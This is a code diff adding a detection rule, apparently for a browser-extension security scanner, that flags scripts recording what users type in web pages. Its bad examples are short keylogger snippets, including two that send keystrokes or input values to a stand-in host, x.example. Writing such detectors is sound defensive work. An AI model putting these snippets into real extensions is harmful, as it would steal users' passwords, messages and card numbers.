@@ -1,0 +1,85 @@
+import { apiPath, defsOf, Op, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { defineRule } from '../../rule.ts';
+import { checkScripts, contentExample } from './checkScripts.ts';
+import { listenersOf } from './listeners.ts';
+import { runsInPages } from './places.ts';
+import { leavesBy, readsBetween } from './sendings.ts';
+import { usageOf } from './usage.ts';
+
+const KEYS: ReadonlySet<string> = new Set(['key', 'keyCode', 'which', 'charCode', 'code', 'data']);
+const VALUES: ReadonlySet<string> = new Set(['value', 'innerText', 'textContent', 'data', 'key', 'keyCode', 'which']);
+
+export const keyLogging = defineRule({
+  id: 'key-logging',
+  title: 'What people type in web pages is recorded',
+  severity: 'high',
+  confidence: 'high',
+  category: 'privacy',
+  applies: 'extension',
+  cwe: 'CWE-359',
+  references: ['https://attack.mitre.org/techniques/T1056/001/'],
+  why: 'Passwords, messages and card numbers are typed into pages. A script that listens to every key of a page and keeps or sends what it hears records all of them.',
+  remedy: 'Listen only in your own fields, or only for the shortcuts that you need, and neither keep nor send what was typed.',
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    if (!runsInPages(facts, file.path)) return;
+    for (const listener of listenersOf(script, 'keydown', 'keyup', 'keypress', 'input', 'beforeinput')) {
+      if (!listener.everywhere) continue;
+      const fn = script.functions[listener.fn];
+      if (fn === undefined) continue;
+      const typed = readsBetween(script, fn.start, fn.end, listener.event.includes('input') ? VALUES : KEYS);
+      if (listener.event.startsWith('key')) for (const value of readsBetween(script, fn.start, fn.end, new Set(['value']))) typed.add(value);
+      const out = leavesBy(script, typed);
+      if (out === undefined) continue;
+      if (out.kind === 'network') yield hit(listener.value, { severity: 'critical', message: `What is typed is sent to ${out.to}.` });
+      else if (gathers(script, typed)) yield hit(listener.value, { message: out.kind === 'message' ? 'What is typed is gathered and handed to the background.' : 'What is typed is gathered and stored.' });
+      else yield hit(listener.value, { severity: 'medium', confidence: 'low', message: 'Single keys are handed on: a shortcut, or a recorder.' });
+    }
+  }),
+  examples: {
+    bad: [
+      contentExample('let buffer = ""; document.addEventListener("keydown", (e) => { buffer += e.key; }); setInterval(() => { fetch("https://x.example/k", { method: "POST", body: buffer }); buffer = ""; }, 5000);'),
+      contentExample('const keys = []; window.onkeypress = function (e) { keys.push(String.fromCharCode(e.which)); if (keys.length > 20) chrome.runtime.sendMessage({ keys: keys.join("") }); };'),
+      contentExample('document.addEventListener("input", (e) => { navigator.sendBeacon("https://x.example/i", e.target.value); }, true);'),
+      contentExample('var log = ""; $(document).on("keyup", function (e) { log += e.key; chrome.storage.local.set({ log: log }); });'),
+    ],
+    good: [
+      contentExample('document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); });'),
+      contentExample('document.addEventListener("keydown", (e) => { if (e.ctrlKey && e.key === "k") chrome.runtime.sendMessage({ open: true }); });'),
+      contentExample('const box = document.createElement("input"); box.addEventListener("input", (e) => { fetch("https://x.example/search?q=" + box.value); });'),
+      contentExample('let last = ""; window.addEventListener("keydown", (e) => { last = e.key; if (last === "g") scrollTo(0, 0); });'),
+    ],
+  },
+});
+
+/** What is typed is joined to what was typed before. */
+function gathers(script: ScriptFacts, typed: ReadonlySet<number>): boolean {
+  const joins = (value: number, depth: number): boolean => {
+    if (depth > 6) return false;
+    if (typed.has(value)) return true;
+    const op = script.op[value];
+    if (op === Op.concat || op === Op.choice || op === Op.array) {
+      const list = script.a[value] as number;
+      for (let n = 1; n <= (script.lists[list] as number); n++) if (joins(script.lists[list + n] as number, depth + 1)) return true;
+    }
+    if (op === Op.object) {
+      const list = script.a[value] as number;
+      for (let n = 2; n <= (script.lists[list] as number); n += 2) if (joins(script.lists[list + n] as number, depth + 1)) return true;
+    }
+    if (op === Op.call && apiPath(script, script.a[value] as number) !== undefined) {
+      const list = script.b[value] as number;
+      for (let n = 1; n <= (script.lists[list] as number); n++) if (joins(script.lists[list + n] as number, depth + 1)) return true;
+    }
+    if (op === Op.ref) return [...defsOf(script, script.a[value] as number)].slice(0, 4).some((def) => joins(def, depth + 1));
+    return false;
+  };
+  for (const values of usageOf(script).filled.values()) if (values.some((value) => joins(value, 0))) return true;
+  // `buffer += e.key`
+  for (let at = 0; at < script.defs.length; at += 2) {
+    const value = script.defs[at + 1] as number;
+    if (script.op[value] !== Op.concat) continue;
+    const list = script.a[value] as number;
+    const own = Array.from({ length: script.lists[list] as number }, (_, n) => script.lists[list + 1 + n] as number);
+    if (own.some((part) => script.op[part] === Op.ref && script.a[part] === script.defs[at]) && joins(value, 0)) return true;
+  }
+  return false;
+}
